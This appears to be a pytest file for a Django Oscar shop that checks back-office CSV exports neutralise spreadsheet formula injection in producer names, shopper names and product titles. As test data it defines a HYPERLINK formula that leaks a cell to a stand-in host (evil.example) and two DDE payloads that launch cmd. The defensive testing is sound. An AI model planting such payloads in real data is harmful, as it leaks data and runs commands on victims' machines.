"""Finding 9: every CSV the back office downloads is safe to open in a spreadsheet.

Registry text (producer, product names), shoppers' names and product titles starting with
``=``, ``+``, ``-`` or ``@`` come out with a leading ``'``; other values and dates are unchanged.
"""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.test import Client
from django.urls import reverse
from oscar.core.loading import get_model

from catalogue.certification import vietnam_today
from tests.checkout.helpers import ADDRESS, add, place, to_preview
from tests.factories import ProducerFactory, UserFactory, make_certified_product
from tests.i18n import speak

pytestmark = pytest.mark.django_db

Order = get_model("order", "Order")
ProductRecord = get_model("analytics", "ProductRecord")

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1, "Xem chi tiết")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
CMD = "+cmd|' /C calc'!A0"


@pytest.fixture
def staff_client() -> Client:
    client = speak(Client(), "en")
    client.force_login(UserFactory(is_staff=True, is_superuser=True))
    return client


def rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content) if response.streaming else response.content
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_the_expiring_certificates_csv_neutralises_registry_text(staff_client):
    producer = ProducerFactory(name=HYPERLINK)
    hostile = make_certified_product(title=SUM, producer=producer)
    plain = make_certified_product(title="Mận hậu Mộc Châu")
    today = vietnam_today()
    for product in (hostile, plain):
        product.certificates.update(expires_on=today + datetime.timedelta(days=20))
    hostile.certificates.update(product_name=SUM)

    table = rows(staff_client.get(reverse("ocop-dashboard:expiring"), {"days": 30, "format": "csv"}))
    by_product = {row[2]: row for row in table[1:]}
    row = by_product["'" + SUM]
    assert row[3] == "'" + HYPERLINK
    assert by_product["Mận hậu Mộc Châu"][2] == "Mận hậu Mộc Châu"
    last_day = (today + datetime.timedelta(days=19)).isoformat()
    assert row[6] == last_day and row[7] == "20"  # dates and numbers unchanged


def place_order(first_name: str, last_name: str = "") -> Order:
    shopper = speak(Client(), "en")
    add(shopper, make_certified_product())
    to_preview(shopper, address={**ADDRESS, "first_name": first_name, "last_name": last_name})
    response = place(shopper)
    assert response.status_code == 302
    return Order.objects.latest("pk")


def test_oscars_order_export_neutralises_the_shoppers_names(staff_client):
    hostile = place_order(HYPERLINK)
    plain = place_order("Nguyễn Thị Lan")
    table = rows(staff_client.get(reverse("dashboard:order-list"), {"response_format": "csv"}))
    header, body = table[0], {row[0]: row for row in table[1:]}
    name = header.index("Deliver to name")
    assert body[hostile.number][name] == "'" + hostile.shipping_address.name
    assert body[hostile.number][name].startswith("'=HYPERLINK(")
    assert body[plain.number][name] == "Nguyễn Thị Lan"
    value = header.index("Order value")
    assert body[plain.number][value] == str(plain.total_incl_tax)  # a number, unchanged


def test_oscars_report_downloads_neutralise_product_titles(staff_client):
    hostile = make_certified_product(title=CMD)
    plain = make_certified_product(title="Chè Shan tuyết")
    ProductRecord.objects.create(product=hostile, num_views=7)
    ProductRecord.objects.create(product=plain, num_views=3)
    response = staff_client.get(
        reverse("dashboard:reports-index"), {"report_type": "product_analytics", "download": "true"}
    )
    table = rows(response)
    by_title = {row[0]: row for row in table[1:]}
    assert by_title["'" + CMD][1] == "7"
    assert by_title["Chè Shan tuyết"][1] == "3"
